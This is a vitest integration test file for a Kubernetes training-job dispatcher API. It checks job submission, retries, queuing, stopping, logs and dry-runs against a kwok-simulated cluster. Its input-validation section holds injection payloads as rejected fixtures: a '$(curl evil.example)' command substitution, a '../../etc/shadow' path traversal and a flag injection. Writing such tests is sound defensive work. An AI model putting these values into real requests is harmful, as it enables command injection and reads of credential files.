// The dispatcher's HTTP routes, in process, against the real control plane: the
// platform chart applied from dist/, Jobs rendered by the TrainingJob construct,
// the real Job controller and scheduler deciding, kwok playing the kubelet (pod
// fates chosen with the kwok-* labels of test/cluster/kwok-stages.yaml).
import { BatchV1Api, CoreV1Api, KubeConfig } from "@kubernetes/client-node";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { LABEL, TRAINING_JOB_APP, trainingJobName } from "../../charts-ts/labels.ts";
import { parseTrainingRequest } from "../../charts-ts/request.ts";
import { platformSettings } from "../../charts-ts/settings.ts";
import type { Manifest } from "../../charts-ts/training-job-chart.ts";
import { KubernetesExecutor } from "../../dispatcher/executors/kubernetes-executor.ts";
import { buildServer } from "../../dispatcher/http/server.ts";
import type { JobStatus, Phase } from "../../dispatcher/status/status-model.ts";
import { applyPlatform } from "./platform.ts";

const kubeConfig = new KubeConfig();
kubeConfig.loadFromFile(inject("kubeconfig"));
const batch = kubeConfig.makeApiClient(BatchV1Api);
const core = kubeConfig.makeApiClient(CoreV1Api);
const platform = platformSettings({});
const NAMESPACE = platform.namespace;

const token = "integration-token";
const auth = { authorization: `Bearer ${token}` };
// Job ids unique to this run, so leftovers of an earlier run (TTL) never collide.
const RUN = `r${Date.now().toString(36)}`;
let nextJobId = (Date.now() % 1_000_000) * 100;
const newJobId = () => ++nextJobId;

const app = buildServer({
  apiToken: token,
  bodyLimitBytes: 256 * 1024,
  defaultExecutor: "kubernetes",
  executors: { kubernetes: new KubernetesExecutor({ kubeConfig, platform }) },
});

beforeAll(() => applyPlatform(kubeConfig));
afterAll(async () => {
  await app.close();
  // Free the GPU quota for the next file: every Job this run made, pods with it.
  const jobs = await batch.listNamespacedJob({ namespace: NAMESPACE, labelSelector: `test-run=${RUN}` });
  await Promise.all(
    jobs.items.map((job) =>
      batch.deleteNamespacedJob({ name: job.metadata?.name ?? "", namespace: NAMESPACE, propagationPolicy: "Background" }),
    ),
  );
});

type Fate = Record<string, string>;
function request(jobId: number, fate: Fate = {}, resources: Record<string, unknown> = { gpu: 1 }) {
  return {
    jobId,
    projectId: 42,
    framework: "timm",
    taskType: "image_classification",
    modelName: "resnet18",
    dataset: { path: "datasets/flowers", format: "imagefolder" },
    epochs: 3,
    resources,
    labels: { "test-run": RUN, ...fate },
  };
}

const submit = (body: unknown, query = "") =>
  app.inject({ method: "POST", url: `/v1/jobs${query}`, headers: auth, payload: body as object });
const getStatus = async (jobId: number): Promise<JobStatus> =>
  (await app.inject({ method: "GET", url: `/v1/jobs/${jobId}`, headers: auth })).json();

async function until(jobId: number, done: (status: JobStatus) => boolean, timeoutMs = 90_000): Promise<JobStatus> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const status = await getStatus(jobId);
    if (done(status)) return status;
    if (Date.now() > deadline) throw new Error(`job ${jobId}: timed out; last status ${JSON.stringify(status, null, 2)}`);
    await new Promise((resolve) => setTimeout(resolve, 250));
  }
}
const inPhase = (phase: Phase) => (status: JobStatus) => status.phase === phase;

async function jobNames(): Promise<string[]> {
  const jobs = await batch.listNamespacedJob({ namespace: NAMESPACE, labelSelector: `${LABEL.app}=${TRAINING_JOB_APP}` });
  return jobs.items.map((job) => job.metadata?.name ?? "");
}

describe("dispatcher on Kubernetes", () => {
  it("submits a job that runs to completion, with its transitions, node and times", async () => {
    const jobId = newJobId();
    const created = await submit(request(jobId));
    expect(created.statusCode).toBe(201);
    expect(created.headers.location).toBe(`/v1/jobs/${jobId}`);
    expect(created.json()).toMatchObject({ jobId, executor: "kubernetes", name: trainingJobName(jobId), phase: "pending" });

    const final = await until(jobId, inPhase("completed"));
    expect(final).toMatchObject({ reason: "Succeeded", attempts: 1, lastExitCode: 0 });
    expect(final.node).toMatch(/^gpu-node-/);
    expect(final.transitions.map((t) => t.phase)).toEqual(expect.arrayContaining(["pending", "running", "completed"]));
    expect(final.transitions.at(-1)?.phase).toBe("completed");
    expect(Date.parse(final.completionTime ?? "")).toBeGreaterThanOrEqual(Date.parse(final.startTime ?? ""));

    const listed = await app.inject({ method: "GET", url: "/v1/jobs?projectId=42&phase=completed&limit=100", headers: auth });
    expect(listed.json().jobs.map((job: JobStatus) => job.jobId)).toContain(jobId);
  });

  it("is idempotent on jobId and answers 409 naming what differs", async () => {
    const jobId = newJobId();
    expect((await submit(request(jobId))).statusCode).toBe(201);
    const again = await submit(request(jobId));
    expect(again.statusCode).toBe(200);
    expect(again.json()).toMatchObject({ jobId, name: trainingJobName(jobId) });

    const conflict = await submit({ ...request(jobId), epochs: 30, modelName: "resnet50" });
    expect(conflict.statusCode).toBe(409);
    expect(conflict.json().error.code).toBe("conflict");
    expect(conflict.json().error.message).toMatch(/epochs/);
    expect(conflict.json().error.message).toMatch(/modelName/);
    expect((await jobNames()).filter((name) => name === trainingJobName(jobId))).toHaveLength(1);
  });

  it("reports a failing trainer as retrying, then failed by the backoff limit with its exit code", async () => {
    const jobId = newJobId();
    expect((await submit(request(jobId, { "kwok-fate": "fail", "kwok-exit-code": "7" }))).statusCode).toBe(201);
    const retrying = await until(jobId, (status) => status.phase === "retrying" || status.phase === "failed");
    const final = await until(jobId, inPhase("failed"));
    expect(final).toMatchObject({ reason: "BackoffLimitExceeded", lastExitCode: 7, attempts: platform.backoffLimit + 1 });
    // The retry was seen, whether this poll caught it live or only in the history.
    expect([retrying.phase, ...final.transitions.map((t) => t.phase)]).toContain("retrying");
  });

  it("fails at once on a configuration error exit code (podFailurePolicy)", async () => {
    const jobId = newJobId();
    expect((await submit(request(jobId, { "kwok-fate": "fail", "kwok-exit-code": "2" }))).statusCode).toBe(201);
    const final = await until(jobId, inPhase("failed"));
    expect(final).toMatchObject({ reason: "ConfigurationError", lastExitCode: 2, attempts: 1 });
  });

  it("queues a job no GPU node can take now, with the scheduler's reason", async () => {
    const holder = newJobId();
    const waiting = newJobId();
    // gpu-node-1 is the only t4 node: fill its 8 GPUs, then ask for one more.
    expect((await submit(request(holder, { "kwok-run-duration": "120s" }, { gpu: 8, gpuType: "t4" }))).statusCode).toBe(201);
    await until(holder, inPhase("running"));
    expect((await submit(request(waiting, {}, { gpu: 1, gpuType: "t4" }))).statusCode).toBe(201);
    const queued = await until(waiting, inPhase("queued"));
    expect(queued.reason).toBe("Unschedulable");
    expect(queued.message).toMatch(/Insufficient nvidia\.com\/gpu/);

    // Stopping the holder frees the node; the queued job then runs.
    expect((await app.inject({ method: "POST", url: `/v1/jobs/${holder}/stop`, headers: auth })).statusCode).toBe(200);
    await until(waiting, inPhase("completed"));
  });

  it("stops a running job: pods removed gracefully, phase stopped, still queryable", async () => {
    const jobId = newJobId();
    expect((await submit(request(jobId, { "kwok-run-duration": "300s" }))).statusCode).toBe(201);
    await until(jobId, inPhase("running"));

    const stopped = await app.inject({ method: "POST", url: `/v1/jobs/${jobId}/stop`, headers: auth });
    expect(stopped.statusCode).toBe(200);
    expect(stopped.json()).toMatchObject({ jobId, phase: "stopped", reason: "StoppedByUser" });

    const name = trainingJobName(jobId);
    const deadline = Date.now() + 60_000;
    while (
      (await core.listNamespacedPod({ namespace: NAMESPACE, labelSelector: `batch.kubernetes.io/job-name=${name}` })).items.length > 0
    ) {
      if (Date.now() > deadline) throw new Error(`pods of ${name} still exist a minute after stop`);
      await new Promise((resolve) => setTimeout(resolve, 250));
    }
    const job = await batch.readNamespacedJob({ name, namespace: NAMESPACE });
    expect(job.spec?.suspend).toBe(true);
    // A stop is not a failure: nothing counted against backoffLimit.
    expect(job.status?.failed ?? 0).toBe(0);
    const after = await getStatus(jobId);
    expect(after).toMatchObject({ phase: "stopped", reason: "StoppedByUser", attempts: 1 });
    expect(after.node).toMatch(/^gpu-node-/);
    // The pods are gone; the history recorded on the Job at the stop still tells what ran.
    expect(after.transitions.map((t) => t.phase)).toEqual(expect.arrayContaining(["pending", "running", "stopped"]));
    const again = await app.inject({ method: "POST", url: `/v1/jobs/${jobId}/stop`, headers: auth });
    expect(again.json()).toMatchObject({ phase: "stopped" });
  });

  it("refuses to stop a finished job and 404s an unknown one", async () => {
    const jobId = newJobId();
    await submit(request(jobId));
    await until(jobId, inPhase("completed"));
    expect((await app.inject({ method: "POST", url: `/v1/jobs/${jobId}/stop`, headers: auth })).statusCode).toBe(409);
    const unknown = await app.inject({ method: "POST", url: "/v1/jobs/999999999/stop", headers: auth });
    expect(unknown.statusCode).toBe(404);
    expect(unknown.json().error.code).toBe("not_found");
  });

  it("serves the trainer's log: the latest attempt, its last lines, or a chosen attempt", async () => {
    const jobId = newJobId();
    await submit(request(jobId, { "kwok-fate": "fail", "kwok-exit-code": "7" }));
    const failed = await until(jobId, inPhase("failed"));
    const latest = await app.inject({ method: "GET", url: `/v1/jobs/${jobId}/logs`, headers: auth });
    expect(latest.statusCode).toBe(200);
    expect(latest.headers["x-log-state"]).toBe("output");
    expect(latest.headers["x-log-attempt"]).toBe(String(failed.attempts));
    // kwok serves the same file (test/cluster/trainer.log) for every trainer container.
    expect(latest.body).toMatch(/epoch 1\/3 loss=1\.600 accuracy=0\.280/);
    const tail = await app.inject({ method: "GET", url: `/v1/jobs/${jobId}/logs?tailLines=2`, headers: auth });
    expect(tail.body.trim().split("\n")).toHaveLength(2);
    expect(latest.body.trim().endsWith(tail.body.trim())).toBe(true);
    const second = await app.inject({ method: "GET", url: `/v1/jobs/${jobId}/logs?attempt=2`, headers: auth });
    expect(second.headers["x-log-attempt"]).toBe("2");
  });

  it("tells an unknown job's logs from a job with no output yet", async () => {
    expect((await app.inject({ method: "GET", url: "/v1/jobs/999999999/logs", headers: auth })).statusCode).toBe(404);
    const jobId = newJobId();
    await submit(request(jobId, { "kwok-fate": "image-pull" }));
    await until(jobId, inPhase("starting"));
    const logs = await app.inject({ method: "GET", url: `/v1/jobs/${jobId}/logs`, headers: auth });
    expect(logs.statusCode).toBe(200);
    expect(logs.headers["x-log-state"]).toBe("no-output-yet");
    expect(logs.headers["x-job-phase"]).toBe("starting");
    const attempt = await app.inject({ method: "GET", url: `/v1/jobs/${jobId}/logs?attempt=5`, headers: auth });
    expect(attempt.statusCode).toBe(404);
    expect(attempt.json().error.field).toBe("attempt");
  });

  it("dry-runs a request: the manifest and the API server's verdict, nothing created", async () => {
    const jobId = newJobId();
    const response = await submit(request(jobId), "?dryRun=true");
    expect(response.statusCode).toBe(200);
    const { manifest, verdict } = response.json();
    expect(verdict).toEqual({ accepted: true });
    expect(manifest).toMatchObject({ kind: "Job", metadata: { name: trainingJobName(jobId), namespace: NAMESPACE } });
    expect(await jobNames()).not.toContain(trainingJobName(jobId));
  });

  it("reports the API server's own message when it refuses a manifest", async () => {
    const executor = new KubernetesExecutor({ kubeConfig, platform });
    const parsed = parseTrainingRequest(request(newJobId()));
    if (!parsed.ok) throw new Error(JSON.stringify(parsed.errors));
    const manifest = structuredClone(executor.render(parsed.request)) as unknown as {
      spec: { template: { spec: Record<string, unknown> } };
    };
    manifest.spec.template.spec.restartPolicy = "Always";
    const verdict = await executor.verdictOn(manifest as unknown as Manifest);
    expect(verdict.accepted).toBe(false);
    expect(verdict.statusCode).toBe(422);
    expect(verdict.message).toMatch(/is invalid: spec\.template\.spec\.restartPolicy: Required value: valid values: "OnFailure", "Never"/);
  });
});

describe("bad input creates nothing", () => {
  const jobId = newJobId();
  const valid = request(jobId);
  const huge = "x".repeat(300 * 1024);
  it.each([
    ["malformed JSON", '{"jobId": 1,', 400, undefined],
    ["a wrong type", JSON.stringify({ ...valid, epochs: "10" }), 400, "epochs"],
    ["an unknown field", JSON.stringify({ ...valid, command: ["sh"] }), 400, "command"],
    ["a flag in modelName", JSON.stringify({ ...valid, modelName: "resnet18 --output_dir=/etc" }), 400, "modelName"],
    ["a shell expansion in modelName", JSON.stringify({ ...valid, modelName: "$(curl evil.example)" }), 400, "modelName"],
    [
      "a traversal in the dataset path",
      JSON.stringify({ ...valid, dataset: { path: "../../etc/shadow", format: "imagefolder" } }),
      400,
      "dataset.path",
    ],
    ["a newline in the dataset path", JSON.stringify({ ...valid, dataset: { path: "a\nb", format: "imagefolder" } }), 400, "dataset.path"],
    ["advancedConfig that is a string", JSON.stringify({ ...valid, advancedConfig: "--epochs 1" }), 400, "advancedConfig"],
    ["advancedConfig over 64 KiB", JSON.stringify({ ...valid, advancedConfig: { blob: "y".repeat(70 * 1024) } }), 400, "advancedConfig"],
    // Beyond the body limit the server refuses to read it at all: 413 is the status HTTP has for that.
    ["an oversize body", JSON.stringify({ ...valid, advancedConfig: { blob: huge } }), 413, undefined],
  ])("%s: answers %s and creates no Job", async (_name, payload, status, field) => {
    const before = await jobNames();
    const response = await app.inject({
      method: "POST",
      url: "/v1/jobs",
      headers: { ...auth, "content-type": "application/json" },
      payload,
    });
    expect(response.statusCode).toBe(status);
    expect(response.json().error).toHaveProperty("code");
    if (field !== undefined) expect(response.json().error.field).toBe(field);
    expect(await jobNames()).toEqual(before);
    expect(before).not.toContain(trainingJobName(jobId));
  });
});
